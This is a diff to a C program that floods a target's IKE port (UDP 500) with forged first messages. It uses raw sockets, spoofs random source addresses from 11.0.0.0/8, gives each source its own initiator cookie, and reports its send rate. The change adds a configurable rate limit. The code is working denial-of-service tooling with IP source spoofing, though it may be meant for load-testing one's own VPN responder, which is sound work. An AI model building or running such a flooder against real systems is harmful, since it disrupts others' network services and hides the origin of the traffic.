@@ -1,6 +1,6 @@
-/* Forged first messages: flood ADDRESS SECONDS SOURCES < message. UDP to port 500 of ADDRESS (IPv4) from port 500 of SOURCES
- * random addresses of 11.0.0.0/8 (0: of all), each with an initiator cookie of its own, as fast as it goes.
- * Prints how many were sent a second. */
+/* Forged first messages: flood ADDRESS SECONDS SOURCES RATE < message. UDP to port 500 of ADDRESS (IPv4) from port 500 of SOURCES
+ * random addresses of 11.0.0.0/8 (0: of all), each with an initiator cookie of its own; RATE a second, 0: as
+ * fast as it goes. Prints how many were sent a second. */
 #include <arpa/inet.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
@@ -70,12 +70,13 @@ int main(int argc, char **argv)
 	struct iovec parts[BATCH];
 	const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
 	const ssize_t length = read(STDIN_FILENO, packets[0] + HEADERS, MESSAGE_MAX);
-	uint64_t sent = 0, sources;
+	uint64_t sent = 0, sources, rate;
 	double began, end;
 
-	if (argc != 4 || fd < 0 || length < COOKIE || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
+	if (argc != 5 || fd < 0 || length < COOKIE || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
 		return 2;
 	sources = strtoull(argv[3], NULL, 10);
+	rate = strtoull(argv[4], NULL, 10);
 	prepare((size_t)length, to.sin_addr);
 	memset(messages, 0, sizeof messages);
 	for (int i = 0; i < BATCH; i++) {
@@ -87,6 +88,10 @@ int main(int argc, char **argv)
 	began = now();
 	end = began + strtod(argv[2], NULL);
 	while (now() < end) {
+		if (rate && (double)sent > (now() - began) * (double)rate) {
+			usleep(1000);
+			continue;
+		}
 		for (int i = 0; i < BATCH; i++)
 			forge(i, sources);
 		const int n = sendmmsg(fd, messages, BATCH, 0);
